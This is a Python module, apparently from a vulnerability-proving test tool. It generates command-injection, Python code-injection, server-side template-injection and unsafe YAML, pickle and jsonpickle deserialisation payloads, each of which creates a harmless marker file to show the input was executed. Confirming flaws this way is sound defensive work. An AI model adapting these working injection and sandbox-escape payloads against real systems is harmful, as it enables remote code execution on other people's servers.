"""Whoever can run something can leave a file behind: a marker file that must not appear.

Serves commands, code, templates and deserialisation; only what is sent differs.
"""

from __future__ import annotations

import re

from buckler.finding.evidence import ProofKind
from buckler.prove.model import Attack, Oracle, SinkContext

HELPERS = '''
@pytest.fixture
def marker(tmp_path):
    """A file that only exists if the text that was sent has been run."""
    return tmp_path / "4711"
'''

ATTACK = """
attempt(VALUE)
assert not marker.exists(), "EXPLOITED: what was sent was run and left a file behind"
"""


def command_attacks(situation: SinkContext) -> list[Attack]:
    rows = [
        ("x; touch {marker} #", "ends the command and begins another"),
        ("x' ; touch {marker} ; '", "leaves single quotes first"),
        ('x" ; touch {marker} ; "', "leaves double quotes first"),
        ("$(touch {marker})", "a command in place of a word"),
        ("`touch {marker}`", "a command in backquotes"),
        ("x\ntouch {marker}\n", "a new line is a new command"),
        ("x || touch {marker} #", "runs when the first command fails"),
        ("x && touch {marker} #", "runs when the first command succeeds"),
        ("x | touch {marker} #", "runs beside the first command"),
        ("touch {marker}", "the whole command"),
    ]
    return [Attack(f"f{text!r}", label) for text, label in rows]


def words(_: SinkContext) -> list[Attack]:
    return [Attack(repr("report"), "a plain word"), Attack(repr("a1"), "a short word")]


MAKE = "__import__('pathlib').Path('{marker}').touch()"


def code_attacks(situation: SinkContext) -> list[Attack]:
    rows = [
        (MAKE, "an expression"),
        (f"'+str({MAKE})+'", "leaves a text in single quotes"),
        (f'"+str({MAKE.replace(chr(39), chr(34))})+"', "leaves a text in double quotes"),
        (f"1)\n{MAKE}\n(1", "leaves a call"),
        (f"0\n{MAKE}", "a second statement"),
        (f"0;{MAKE}", "a second statement on the same line"),
        (f"') or {MAKE} or ('", "leaves a quoted argument"),
        ("[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='Popen'][0](['touch','{marker}']).wait()",
         "without any global name"),
        ("[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='_wrap_close'][0]"
         ".__init__.__globals__['system']('touch {marker}')", "by the globals of a class of the library"),
        (f"{{{{{MAKE}}}}}", "in braces of a formatted text"),
        (f"__class__, {MAKE}, x", "completes an attribute and goes on"),
    ]  # fmt: skip
    return [Attack(f"f{text!r}", label) for text, label in rows]


def numbers(_: SinkContext) -> list[Attack]:
    return [Attack(repr("7"), "a number"), Attack(repr("report"), "a word")]


TEMPLATE_ROWS = (
    ("{{{{cycler.__init__.__globals__.os.popen('touch {marker}').read()}}}}", "reaches the os module from a template"),
    ("{{{{self.__init__.__globals__.__builtins__.__import__('pathlib').Path('{marker}').touch()}}}}", "reaches the builtins"),
    ("{{{{''.__class__.__mro__[1].__subclasses__()|map(attribute='__init__')|list}}}}"
     "{{{{lipsum.__globals__['os'].popen('touch {marker}').read()}}}}", "walks through classes"),
    ("${{__import__('pathlib').Path('{marker}').touch()}}", "an expression of Mako"),
    ("<% __import__('pathlib').Path('{marker}').touch() %>", "a block of Mako"),
    ("{{% import os %}}{{{{os.popen('touch {marker}').read()}}}}", "an import of Tornado"),
)  # fmt: skip


def template_attacks(situation: SinkContext) -> list[Attack]:
    return [Attack(f"f{text!r}", label) for text, label in TEMPLATE_ROWS]


PICKLE_HELPER = '''

class Leaves:
    """An object whose reconstruction makes a file."""

    def __init__(self, file):
        self.file = str(file)

    def __reduce__(self):
        return open, (self.file, "w")
'''

YAML_ROWS = (
    ("!!python/object/apply:os.system ['touch {marker}']", "a call"),
    ("!!python/object/new:os.system ['touch {marker}']", "a new object"),
    ("!!python/object/apply:subprocess.check_output [['touch', '{marker}']]", "another call"),
    ("!!python/object/apply:builtins.open ['{marker}', 'w']", "a builtin"),
    ("!!python/object/apply:builtins.open\x85['{marker}','w']", "a builtin and no space"),
)


def serialised_attacks(situation: SinkContext) -> list[Attack]:
    """The format is told by the code around the sink."""
    code = " ".join((situation.code, *situation.near)).lower()
    bytes_ = situation.approach.kind == "bytes"
    yaml = [
        Attack(f"f{text!r}" + (".encode()" if bytes_ else ""), f"a YAML document with {label}")
        for text, label in YAML_ROWS
    ]
    plain = "pickle.dumps(Leaves(marker))"
    pickled = [
        Attack(plain, "a pickled object"),
        Attack(f"base64.b64encode({plain}).decode()", "a pickled object in base64"),
        Attack(f"base64.urlsafe_b64encode({plain}).decode()", "a pickled object in base64 for addresses"),
        Attack(f"{plain}.hex()", "a pickled object in hexadecimal"),
        Attack("pickle.dumps(Leaves(marker), 0).decode('latin-1')", "a pickled object of the oldest protocol"),
    ]
    json_ = [
        Attack(
            'json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [f"touch {marker}"]}]})',
            "a jsonpickle document",
        ),
        Attack('json.dumps({"py/object/apply:os.system": [f"touch {marker}"]})', "another jsonpickle document"),
    ]
    if "yaml" in code:
        return yaml + pickled
    if "jsonpickle" in code or "decode(" in code:
        return json_ + pickled + yaml
    return pickled + yaml + json_


def documents(situation: SinkContext) -> list[Attack]:
    code = " ".join((situation.code, *situation.near)).lower()
    plain = "pickle.dumps({'name': 'report'})"
    if "yaml" in code:
        rows = ["'name: report'"]
    elif "json" in code:
        rows = ['\'{"name": "report"}\'']
    elif re.search(r"b64|base64", code):
        rows = [f"base64.urlsafe_b64encode({plain}).decode()", f"base64.b64encode({plain}).decode()"]
    else:
        rows = [plain, "'name: report'"]
    return [Attack(row, "a plain document") for row in rows]


COMMAND = Oracle("command", ProofKind.EXPLOIT, "a command of the attacker's choice was run", ("import pytest",), HELPERS, ("marker",),
                 ATTACK, command_attacks, words, domain="[a-z]{1,8}")  # fmt: skip
CODE = Oracle("code", ProofKind.EXPLOIT, "Python code of the attacker's choice was run", ("import pytest",), HELPERS, ("marker",),
              ATTACK, code_attacks, numbers, domain="[1-9][0-9]{0,4}")  # fmt: skip
TEMPLATE = Oracle("template", ProofKind.EXPLOIT, "the text was run as a template and left a file behind", ("import pytest",), HELPERS,
                  ("marker",), ATTACK, template_attacks, words)  # fmt: skip
SERIALISED = Oracle("serialised", ProofKind.EXPLOIT, "loading the document ran a call of the attacker's choice",
                    ("import base64", "import json", "import pickle", "import pytest"), HELPERS + PICKLE_HELPER, ("marker",),
                    ATTACK, serialised_attacks, documents)  # fmt: skip
